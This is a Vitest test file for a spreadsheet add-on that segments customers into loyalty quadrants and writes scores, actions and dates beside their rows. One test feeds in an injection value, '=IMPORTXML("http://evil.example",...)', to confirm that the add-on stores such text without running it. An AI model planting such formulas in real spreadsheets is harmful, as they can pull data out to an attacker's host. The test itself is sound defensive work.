import { describe, expect, it } from 'vitest';
import { shownStyle } from '../../infra/local/workbook/conditional-format.ts';
import { fakeService } from './fake-service.ts';
import {
  CUSTOMERS,
  CUSTOMERS_ID,
  lastShown,
  ORDERS,
  ORDERS_ID,
  OWN_HEADERS,
  openAddon,
} from './open-addon.ts';

const MS_PER_DAY = 86_400_000;
/** Sheets counts days from 1899-12-30. */
const SERIAL_OF_1970 = 25_569;

/** 1,000 customers with two orders each. */
function thousand() {
  const ids = Array.from({ length: 1000 }, (_, i) => `C${i + 1}`);
  return {
    sheets: [
      { name: 'Customers', rows: [['Customer id', 'Customer'], ...ids.map((id) => [id, `Company ${id}`])] },
      {
        name: 'Orders',
        rows: [
          ['Invoice', 'Date', 'Customer id', 'Net amount'],
          ...ids.flatMap((id, i) => [
            [`A${i}`, '10/01/2026', id, '100'],
            [`B${i}`, '10/03/2026', id, '120'],
          ]),
        ],
      },
    ],
  };
}

/** Calls that read or write cells, notes or marks; the rest only name places, or tell what came with the document. */
function isTrip(call: string): boolean {
  return /(MetadataFinder\.find|\.flush|Range(?:List)?\.(?:get|set)(?:Values?|Notes?|Formulas?|Backgrounds?|FontColors?))$/.test(
    call,
  );
}

describe('segmenting selected customers', () => {
  it('writes words, numbers and dates beside the rows, and counts them', () => {
    const { runtime, selectRows, customers, written } = openAddon();
    selectRows([2, 3]);

    runtime.run('segmentSelected');

    expect(customers()[0]).toEqual([...(CUSTOMERS.rows[0] ?? []), ...OWN_HEADERS]);
    expect(written(2)).toEqual({
      Quadrant: '● True Friend',
      Confidence: 0.81,
      CLV: 105_600,
      'Still active': 0.88,
      Action: 'Call about the overdue order',
      'Money at stake': 3_150,
      Due: 46_350, // 2026-11-24
      Why: 'Usually buys every 32 days; it is 51 days now.',
      Updated: expect.closeTo(Date.now() / MS_PER_DAY + SERIAL_OF_1970, 2),
    });
    expect(written(3)).toMatchObject({ Quadrant: '▲ Butterfly' });
    expect(Object.values(written(4)).every((cell) => cell === null)).toBe(true);
    expect(lastShown(runtime, 'toast')).toMatch(/^2 customers: 1 True Friend, 1 Butterfly\./);
  });

  it('imports first when nothing was imported yet, and says so', () => {
    const { runtime, service, selectRows } = openAddon();
    selectRows([2, 2]);

    runtime.run('segmentSelected');

    expect(service.imports.map(({ entity, last }) => [entity, last])).toEqual([
      ['customers', false],
      ['orders', true],
    ]);
    expect(lastShown(runtime, 'toast')).toContain('First we read 12 orders from “Orders”.');

    runtime.run('segmentSelected');

    expect(service.imports).toHaveLength(2);
    expect(lastShown(runtime, 'toast')).toBe('1 customer: 1 True Friend.');
  });

  it('imports first for a second person, whose company has nothing yet', () => {
    const first = openAddon();
    first.selectRows([2, 2]);
    first.runtime.run('segmentSelected');

    // The same document, another account: the service knows neither settings nor orders.
    first.service.forget();
    first.runtime.run('segmentSelected');

    expect(lastShown(first.runtime, 'toast')).toContain('First we read 12 orders');
  });

  it('dresses the quadrant cell in its fill and ink, and signs the header', () => {
    const { runtime, selectRows } = openAddon();
    selectRows([2, 6]);

    runtime.run('segmentSelected');

    const sheet = runtime.workbook.sheet(CUSTOMERS_ID);
    const style = (row: number) => shownStyle(sheet.cell(row, 3), row, 3, sheet.conditionalFormats);
    expect(style(1)).toEqual({ background: '#dff3ea', color: '#00795a' });
    expect(style(2)).toEqual({ background: '#fdf0d5', color: '#9a5b00' });
    expect(style(5)).toEqual({});
    expect(sheet.cell(0, 3)?.note).toMatch(/^Written by Loyalty Quadrant, \d+ \w+, \d\d:\d\d\n/);
  });

  it('says "no orders yet" of a customer without orders, and leaves nothing stale beside it', () => {
    const { runtime, selectRows, written } = openAddon();
    selectRows([6, 6]);

    runtime.run('segmentSelected');

    expect(written(6)).toMatchObject({ Quadrant: 'No orders yet', CLV: null, Action: null, Why: null });
    expect(lastShown(runtime, 'toast')).toContain('1 has no orders yet.');
  });

  it('takes several ranges, and skips the header and blank rows', () => {
    const rows = [...CUSTOMERS.rows.slice(0, 3), ['', '', ''], ...CUSTOMERS.rows.slice(3)];
    const { runtime, selectRows, customers } = openAddon({
      workbook: { sheets: [{ ...CUSTOMERS, rows }, ORDERS] },
    });
    selectRows([1, 2], [5, 6]);

    runtime.run('segmentSelected');

    const quadrants = customers().map((row) => row[3]);
    expect(quadrants).toEqual(['Quadrant', '● True Friend', null, null, '■ Barnacle', '◆ Stranger', null]);
  });

  it('leaves alone a row that names no customer, and says so', () => {
    const rows = [...CUSTOMERS.rows, ['', '', 'Rye']];
    const { runtime, selectRows, customers } = openAddon({
      workbook: { sheets: [{ ...CUSTOMERS, rows }, ORDERS] },
    });
    selectRows([6, 7]);

    runtime.run('segmentSelected');

    expect(
      customers()[6]
        ?.slice(3)
        .every((cell) => cell === null),
    ).toBe(true);
    expect(lastShown(runtime, 'toast')).toContain('1 row was left as it is');
  });

  it.each([
    ['the header only', CUSTOMERS_ID, 'No customer is selected.'],
    ['a tab of orders', ORDERS_ID, 'This tab holds orders'],
  ])('says what to do when it finds %s', (_what, sheetId, message) => {
    const { runtime, service } = openAddon();
    runtime.workbook.edit({ type: 'select', ranges: [{ sheetId, row: 0, column: 0, rows: 1, columns: 1 }] });

    runtime.run('segmentSelected');

    expect(lastShown(runtime, 'dialog')).toContain(message);
    expect(service.calls).toEqual([]);
  });

  it('keeps a formula that comes from outside a text', () => {
    const formula = '=IMPORTXML("http://evil.example","//a")';
    const service = fakeService((score) => ({
      ...score,
      primaryAction: { ...score.primaryAction, label: `${formula}: call`, reason: `+${formula}` },
    }));
    const { runtime, selectRows, written } = openAddon({ service });
    selectRows([2, 2]);

    runtime.run('segmentSelected');

    expect(written(2)).toMatchObject({ Action: `${formula}: call`, Why: `+${formula}` });
    const cells = runtime.workbook.sheet(CUSTOMERS_ID);
    expect(OWN_HEADERS.map((_, i) => cells.cell(1, 3 + i)?.formula)).toEqual(
      OWN_HEADERS.map(() => undefined),
    );
  });

  it('speaks the language of the reader, to the service too', () => {
    const { runtime, service, selectRows, customers } = openAddon({ locale: 'pl' });
    selectRows([2, 2]);

    runtime.run('segmentSelected');

    expect(customers()[0]?.slice(3, 5)).toEqual(['Kwadrant', 'Pewność']);
    expect(customers()[1]?.[3]).toBe('● Prawdziwy przyjaciel');
    const [score] = service.calls.at(-1) ?? [];
    expect(JSON.parse(String(score?.body))).toMatchObject({ locale: 'pl' });
  });
});

describe('segmenting 1,000 selected rows', () => {
  it('asks the service twice, and takes few trips to the sheet besides its one write', () => {
    const { runtime, service, selectRows } = openAddon({ workbook: thousand() });
    selectRows([2, 1001]);
    runtime.run('segmentSelected');
    const before = new Map(runtime.calls);
    const fetched = service.calls.length;

    runtime.run('segmentSelected');

    const trips = [...runtime.calls]
      .map(([name, count]) => [name, count - (before.get(name) ?? 0)] as const)
      .filter(([name, count]) => count > 0 && isTrip(name));
    expect(Object.fromEntries(trips)).toEqual({
      // Our columns, as they are found and found again before anything is written.
      'SpreadsheetApp.DeveloperMetadataFinder.find': 2,
      // The list, the list again before anything is written, and what the results sheet holds.
      'SpreadsheetApp.Range.getValues': 3,
      // Which rows are hidden.
      'SpreadsheetApp.Range.setFormula': 1,
      'SpreadsheetApp.Range.getValue': 1,
      // What is overwritten is kept: with its notes, in the undo sheet; then the block itself, and the results.
      'SpreadsheetApp.Range.getNotes': 1,
      'SpreadsheetApp.Range.setValues': 3,
      'SpreadsheetApp.Range.setNotes': 1,
      'SpreadsheetApp.Range.setNote': 1,
      'SpreadsheetApp.flush': 1,
    });
    const block = 2;
    expect(trips.reduce((sum, [, count]) => sum + count, 0) - block).toBeLessThanOrEqual(12);
    const scoring = service.calls.slice(fetched);
    expect(scoring.map((together) => together.length)).toEqual([2]);
    expect(lastShown(runtime, 'toast')).toContain('1,000 customers: 250 True Friends');
  });

  it('writes scattered rows by block', () => {
    const { runtime, selectRows } = openAddon({ workbook: thousand() });
    runtime.run('importOrders');
    selectRows([2, 11], [20, 29], [40, 40]);
    const before = runtime.calls.get('SpreadsheetApp.Range.setValues') ?? 0;

    runtime.run('segmentSelected');

    const [headers, undo, results] = [1, 1, 1];
    expect((runtime.calls.get('SpreadsheetApp.Range.setValues') ?? 0) - before).toBe(
      3 + headers + undo + results,
    );
    expect(lastShown(runtime, 'toast')).toMatch(/^21 customers/);
  });
});

describe('segmenting all customers', () => {
  it('finds the customer list from any tab, hidden rows included', () => {
    const { runtime, customers } = openAddon();
    runtime.workbook.sheet(CUSTOMERS_ID).setHidden('row', 2, true);
    runtime.workbook.activate(ORDERS_ID);

    runtime.run('segmentAll');

    expect(customers().map((row) => row[3])).toEqual([
      'Quadrant',
      '● True Friend',
      '▲ Butterfly',
      '■ Barnacle',
      '◆ Stranger',
      'No orders yet',
    ]);
  });

  it('does not take a price list for the customers', () => {
    const prices = {
      name: 'Prices',
      rows: [
        ['Code', 'Name', 'Price'],
        ['P1', 'Bolt M8', '0.20'],
        ['P2', 'Nut M8', '0.10'],
      ],
    };
    const { runtime } = openAddon({ workbook: { sheets: [ORDERS, prices, CUSTOMERS] } });

    runtime.run('segmentAll');

    expect(runtime.workbook.sheet(1).lastColumn).toBe(3);
    expect(runtime.workbook.sheet(2).cell(1, 3)?.value).toBe('● True Friend');
  });

  it.each(['segmentAll', 'segmentSelected'])(
    'makes the list of customers from the orders where there is none, by %s',
    (command) => {
      const { runtime } = openAddon({ workbook: { sheets: [ORDERS] } });

      runtime.run(command);

      const made = runtime.workbook.sheetByName('Customers');
      const cells = [1, 2, 3, 4].map((row) => [made?.cell(row, 0)?.value, made?.cell(row, 6)?.value]);
      expect(cells).toEqual([
        ['C1', '● True Friend'],
        ['C2', '▲ Butterfly'],
        ['C3', '■ Barnacle'],
        ['C4', '◆ Stranger'],
      ]);
      expect(made?.lastRow).toBe(5);
      expect(lastShown(runtime, 'toast')).toContain(
        'Your orders’ customers now stand in the tab “Customers”.',
      );
    },
  );

  it('says what orders are when there are neither customers nor orders', () => {
    const { runtime } = openAddon({ workbook: { sheets: [{ name: 'Empty', rows: [] }] } });

    runtime.run('segmentAll');

    expect(lastShown(runtime, 'dialog')).toContain('No tab of this spreadsheet looks like orders.');
  });
});
